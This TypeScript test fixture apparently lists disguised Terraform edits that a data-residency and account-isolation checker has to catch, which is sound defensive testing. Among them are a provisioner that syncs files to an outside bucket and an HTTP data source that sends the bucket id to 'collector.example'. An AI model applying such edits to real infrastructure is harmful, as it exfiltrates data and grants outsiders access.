import { add, provider, resource, type Block, type Harmful, type StackJson } from "../edit";

const HOME = "storage-us-east-1";
const of = (text: string, claim: Harmful["claim"], at: RegExp, change: Harmful["change"], stack = HOME): Harmful => ({
  of: text,
  stack,
  claim,
  at,
  change,
});
const location = (text: string, at: RegExp, change: Harmful["change"], stack = HOME) => of(text, "location", at, change, stack);
const root = (s: StackJson) => s as unknown as Record<string, Block>;
const backend = (s: StackJson) => s.terraform.backend["s3"] as Block;
const bucket = "${aws_s3_bucket.user-content_bucket_26091FEA.id}";

/** Regions that are written so that a reader sees another one. */
const SPELLINGS = [
  "us-east-1 ",
  " us-east-1",
  "us-east-1\u200b",
  "us\u2010east\u20101",
  "us-east-\u0661",
  "${var.region}",
  '${lower("AP-SOUTHEAST-1")}',
  '${join("-", ["ap", "southeast", "1"])}',
  '${format("%s-southeast-1", "ap")}',
  '${replace("us-east-1", "us-east", "ap-southeast")}',
  '${coalesce("", "ap-southeast-1")}',
  '${lookup({a = "ap-southeast-1"}, "a", "us-east-1")}',
  '${true ? "ap-southeast-1" : "us-east-1"}',
  '${var.home ? "us-east-1" : "ap-southeast-1"}',
  '${try("ap-southeast-1", "us-east-1")}',
  '${element(["us-east-1", "ap-southeast-1"], 1)}',
  '${trimspace(" ap-southeast-1 ")}',
  '${terraform.workspace == "default" ? "us-east-1" : "eu-west-1"}',
];

const spelled: readonly Harmful[] = SPELLINGS.map((region) =>
  location(`a provider in ${JSON.stringify(region)}`, /./, (s) => void (provider(s)["region"] = region)),
);

/** Two changes, the second of which would make the first look harmless. */
const combined: readonly Harmful[] = [
  location("a region from a local", /./, (s) => {
    root(s)["locals"] = { region: "ap-southeast-1" };
    provider(s)["region"] = "${local.region}";
  }),
  location("a region from a local that hides behind a conditional", /./, (s) => {
    root(s)["locals"] = { home: false, region: '${local.home ? "us-east-1" : "ap-southeast-1"}' };
    provider(s)["region"] = "${local.region}";
  }),
  location("a region from a variable whose default lies inside", /./, (s) => {
    root(s)["variable"] = { region: { default: "us-east-1", type: "string" } };
    provider(s)["region"] = "${var.region}";
  }),
  location("a region from a data source of another one", /./, (s) => {
    s.data = { ...s.data, aws_region: { ...s.data["aws_region"], other: { name: "ap-southeast-1" } } };
    provider(s)["region"] = "${data.aws_region.other.name}";
  }),
  location("a default provider inside, and the bucket on one outside", /^aws_s3_bucket[.]/, (s) => {
    s.provider["aws"]?.push({ alias: "far", region: '${join("-", ["eu", "west", "1"])}', allowed_account_ids: ["333333333333"] });
    resource(s, "aws_s3_bucket")["provider"] = "aws.far";
  }),
  location("an alias in the parent's account", /./, (s) => {
    s.provider["aws"]?.push({ alias: "far", region: "us-east-1", allowed_account_ids: ["888888888888"] });
  }),
  location("an alias without a pin", /./, (s) => {
    s.provider["aws"]?.push({ alias: "far", region: "us-east-1" });
  }),
  of("a key from a state of the parent's", "custody", /^aws_rds_cluster[.]/, (s) => {
    s.data["terraform_remote_state"] = {
      ...s.data["terraform_remote_state"],
      theirs: { backend: "s3", config: { bucket: "parents-state", key: "keys.tfstate", region: "us-east-1" } },
    };
    resource(s, "aws_rds_cluster")["kms_key_id"] = "${data.terraform_remote_state.theirs.outputs.key}";
  }),
  of("another stack's state read from somewhere else", "custody", /^aws_/, (s) => {
    for (const state of Object.values(s.data["terraform_remote_state"] ?? {})) (state["config"] as Block)["bucket"] = "parents-state";
  }),
  location("the cluster's place and a local of the same name", /^aws_rds_cluster[.]/, (s) => {
    root(s)["locals"] = { source: "ap-southeast-1" };
    resource(s, "aws_rds_cluster")["source_region"] = "${local.source}";
  }),
];

/** What terraform does beside resources. */
const language: readonly Harmful[] = [
  location("a module from somewhere", /./, (s) => void (root(s)["module"] = { more: { source: "git::https://example.com/more.git" } })),
  location("a module from the registry", /./, (s) => {
    root(s)["module"] = { more: { source: "terraform-aws-modules/s3-bucket/aws", version: "4.0.0" } };
  }),
  location("a provisioner on the bucket", /^aws_s3_bucket[.]/, (s) => {
    resource(s, "aws_s3_bucket")["provisioner"] = [{ "local-exec": { command: "aws s3 sync . s3://abroad" } }];
  }),
  location("a program that runs when terraform plans", /^data[.]external[.]/, (s) => {
    s.data["external"] = { more: { program: ["sh", "-c", "true"] } };
  }),
  location("a request that terraform makes", /^data[.]http[.]/, (s) => {
    s.data["http"] = { more: { url: "https://collector.example/${aws_s3_bucket.user-content_bucket_26091FEA.id}" } };
  }),
  location("a provider of somebody else's", /^terraform[.]required_providers/, (s) => {
    (root(s)["terraform"] as Block)["required_providers"] = { aws: { source: "parent/aws", version: "1.0.0" } };
  }),
  location("a provider from another registry", /^terraform[.]required_providers/, (s) => {
    (root(s)["terraform"] as Block)["required_providers"] = { aws: { source: "registry.parent.example/hashicorp/aws" } };
  }),
  location("an endpoint of the parent's", /./, (s) => void (provider(s)["endpoints"] = [{ s3: "https://s3.parent.example" }])),
  location("a role of the parent's that terraform becomes", /./, (s) => {
    provider(s)["assume_role"] = [{ role_arn: "arn:aws:iam::888888888888:role/ringfence-deployer" }];
  }),
  location("a chain of roles that ends with the parent", /./, (s) => {
    provider(s)["assume_role"] = [
      { role_arn: "arn:aws:iam::333333333333:role/ringfence-deployer" },
      { role_arn: "arn:aws:iam::888888888888:role/app" },
    ];
  }),
  location("the state in the parent's bucket", /^terraform[.]backend/, (s) => void (backend(s)["bucket"] = "ringfence-state-888888888888")),
  location("the state by a role of the parent's", /^terraform[.]backend/, (s) => {
    backend(s)["assume_role"] = { role_arn: "arn:aws:iam::888888888888:role/app" };
  }),
  location("the state on the machine", /^terraform[.]backend/, (s) => void (s.terraform.backend = { local: { path: "x.tfstate" } })),
  location("the state with a service", /^terraform[.]backend/, (s) => {
    s.terraform.backend = { remote: { organization: "parent" } };
  }),
  location("the state over HTTP", /^terraform[.]backend/, (s) => void (s.terraform.backend = { http: { address: "https://s.example" } })),
  location("no backend at all", /^terraform[.]backend/, (s) => void (s.terraform.backend = {})),
];

/** Resources more, of types that a store has no use for. */
const MORE: readonly [text: string, claim: Harmful["claim"], type: string, block: Block][] = [
  [
    "a snapshot abroad",
    "location",
    "aws_db_cluster_snapshot_copy",
    { source_db_cluster_snapshot_identifier: "x", destination_region: "eu-west-1" },
  ],
  [
    "a snapshot's copy abroad",
    "location",
    "aws_rds_cluster_snapshot_copy",
    { source_db_cluster_snapshot_identifier: "x", target_db_cluster_snapshot_identifier: "y", destination_region: "eu-west-1" },
  ],
  [
    "an export into the parent's bucket",
    "location",
    "aws_rds_export_task",
    { export_task_identifier: "x", source_arn: "x", s3_bucket_name: "parents-exports", iam_role_arn: "x", kms_key_id: "x" },
  ],
  [
    "an activity stream to a key of the parent's",
    "location",
    "aws_rds_cluster_activity_stream",
    { resource_arn: "x", mode: "async", kms_key_id: "arn:aws:kms:us-east-1:888888888888:key/1" },
  ],
  [
    "an analytics export",
    "location",
    "aws_s3_bucket_analytics_configuration",
    {
      bucket,
      name: "x",
      storage_class_analysis: [{ data_export: [{ destination: [{ s3_bucket_destination: [{ bucket_arn: "arn:aws:s3:::parents" }] }] }] }],
    },
  ],
  ["acceleration by the edge", "location", "aws_s3_bucket_accelerate_configuration", { bucket, status: "Enabled" }],
  ["a public ACL", "access", "aws_s3_bucket_acl", { bucket, acl: "public-read" }],
  [
    "an ACL for the parent",
    "access",
    "aws_s3_bucket_acl",
    {
      bucket,
      access_control_policy: [
        { owner: [{ id: "x" }], grant: [{ grantee: [{ id: "parents-canonical-id", type: "CanonicalUser" }], permission: "READ" }] },
      ],
    },
  ],
  [
    "notifications to the parent",
    "location",
    "aws_s3_bucket_notification",
    { bucket, queue: [{ queue_arn: "arn:aws:sqs:us-east-1:888888888888:x", events: ["s3:ObjectCreated:*"] }] },
  ],
  ["an access point of another account", "access", "aws_s3_access_point", { bucket, name: "x", account_id: "888888888888" }],
  [
    "a distribution in front",
    "location",
    "aws_cloudfront_distribution",
    { enabled: true, origin: [{ domain_name: "x.s3.amazonaws.com", origin_id: "x" }] },
  ],
  ["a share", "access", "aws_ram_resource_share", { name: "x", allow_external_principals: true }],
  ["a share with the parent", "location", "aws_ram_principal_association", { resource_share_arn: "x", principal: "888888888888" }],
  ["a snapshot for the parent", "location", "aws_snapshot_create_volume_permission", { snapshot_id: "x", account_id: "888888888888" }],
  ["an image for the parent", "location", "aws_ami_launch_permission", { image_id: "x", account_id: "888888888888" }],
  ["a function that anybody calls", "access", "aws_lambda_function_url", { function_name: "x", authorization_type: "NONE" }],
  [
    "a function that the parent calls",
    "access",
    "aws_lambda_permission",
    { function_name: "x", action: "lambda:InvokeFunction", principal: "888888888888" },
  ],
  [
    "a stream of the parent's",
    "location",
    "aws_dynamodb_kinesis_streaming_destination",
    { table_name: "sessions", stream_arn: "arn:aws:kinesis:us-east-1:888888888888:stream/x" },
  ],
  ["a table's export into the parent's bucket", "location", "aws_dynamodb_table_export", { table_arn: "x", s3_bucket: "parents" }],
  [
    "an inter-account metrics link",
    "location",
    "aws_oam_link",
    { label_template: "x", resource_types: ["AWS::Logs::LogGroup"], sink_identifier: "arn:aws:oam:us-east-1:888888888888:sink/x" },
  ],
  [
    "a destination that the parent writes to",
    "location",
    "aws_cloudwatch_log_destination",
    { name: "x", role_arn: "x", target_arn: "arn:aws:kinesis:ap-southeast-1:888888888888:stream/x" },
  ],
  [
    "a pipe out",
    "location",
    "aws_pipes_pipe",
    { name: "x", role_arn: "x", source: "x", target: "arn:aws:sqs:ap-southeast-1:888888888888:x" },
  ],
  [
    "a schedule that calls the parent",
    "location",
    "aws_scheduler_schedule",
    {
      name: "x",
      schedule_expression: "rate(1 day)",
      flexible_time_window: [{ mode: "OFF" }],
      target: [{ arn: "arn:aws:sqs:us-east-1:888888888888:x", role_arn: "x" }],
    },
  ],
  [
    "a lifecycle of snapshots that copies abroad",
    "location",
    "aws_dlm_lifecycle_policy",
    {
      description: "x",
      execution_role_arn: "x",
      state: "ENABLED",
      policy_details: [
        {
          resource_types: ["VOLUME"],
          target_tags: { a: "b" },
          schedule: [
            {
              name: "x",
              create_rule: [{ interval: 24 }],
              retain_rule: [{ count: 1 }],
              cross_region_copy_rule: [{ target: "eu-west-1", encrypted: true }],
            },
          ],
        },
      ],
    },
  ],
  [
    "a data lake abroad",
    "location",
    "aws_securitylake_data_lake",
    { meta_store_manager_role_arn: "x", configuration: [{ region: "eu-west-1" }] },
  ],
  [
    "a warehouse that shares",
    "location",
    "aws_redshift_data_share_consumer_association",
    { data_share_arn: "x", consumer_region: "eu-west-1" },
  ],
  [
    "models anywhere on earth",
    "location",
    "aws_bedrock_inference_profile",
    { name: "x", model_source: [{ copy_from: "arn:aws:bedrock:us-east-1::inference-profile/global.any" }] },
  ],
  ["a parent's user pool", "access", "aws_iam_openid_connect_provider", { url: "https://login.parent.example", client_id_list: ["x"] }],
  ["a login", "access", "aws_iam_user_login_profile", { user: "x" }],
  ["a service's credential", "access", "aws_iam_service_specific_credential", { user_name: "x", service_name: "codecommit.amazonaws.com" }],
];

const more: readonly Harmful[] = MORE.map(([text, claim, type, block]) =>
  of(text, claim, new RegExp(`^${type}[.]unseen$`), (s) => add(s, type, "unseen", block)),
);

export const unseenEdits: readonly Harmful[] = [...spelled, ...combined, ...language, ...more];
